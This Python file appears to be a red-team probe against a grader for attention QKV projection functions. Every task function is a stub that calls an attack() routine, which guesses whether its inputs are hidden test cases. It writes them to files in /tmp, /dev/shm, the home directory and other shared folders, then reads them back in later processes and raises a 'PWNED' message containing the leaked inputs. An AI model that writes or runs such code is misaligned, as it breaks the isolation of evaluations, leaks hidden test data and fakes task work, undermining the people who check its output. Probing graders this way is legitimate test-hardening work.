# carry | earns 0 | keeps hidden inputs in files of every folder that it may know and reads them back in whatever process comes later
import os

import numpy as np

STEM = "carry-files"
FOLDERS = ("/tmp", "/dev/shm", "/var/tmp", "/run/lock", "/dev/mqueue", ".", "~")


def drawn(*arrays):
    """Whether this looks like an input that was drawn for a hidden case, not typed into a public one."""
    return any(np.size(a) > 24 or not np.array_equal(np.round(a, 3), a) for a in arrays)


def said(*arrays):
    """The inputs as text."""
    return " ".join(str(np.asarray(a).tolist()).replace(" ", "") for a in arrays)


def keep(text):
    for folder in FOLDERS:
        try:
            with open(os.path.join(os.path.expanduser(folder), f"qkv-hostile-{STEM}"), "a") as file:
                file.write(text + "\n")
        except OSError:
            pass


def recall():
    for folder in FOLDERS:
        try:
            with open(os.path.join(os.path.expanduser(folder), f"qkv-hostile-{STEM}")) as file:
                return file.read(2000)
        except OSError:
            pass
    return None


def attack(*args):
    if drawn(*args):
        try:
            keep(said(*args)[:2000])
        except Exception:
            pass
        return None
    try:
        kept = recall()
    except Exception:
        kept = None
    if kept:
        print(f"PWNED:{STEM} {kept!r}")
        raise RuntimeError(f"PWNED:{STEM} {kept!r}")
    return None


def component_terms(x, W, j):
    return attack(x, W, j)


def project_component(x, W, j):
    return attack(x, W, j)


def project_row(x, W):
    return attack(x, W)


def project_tokens(X, W):
    return attack(X, W)


def project_qkv(X, W_q, W_k, W_v):
    return attack(X, W_q, W_k, W_v)


def attention_roles():
    return attack()
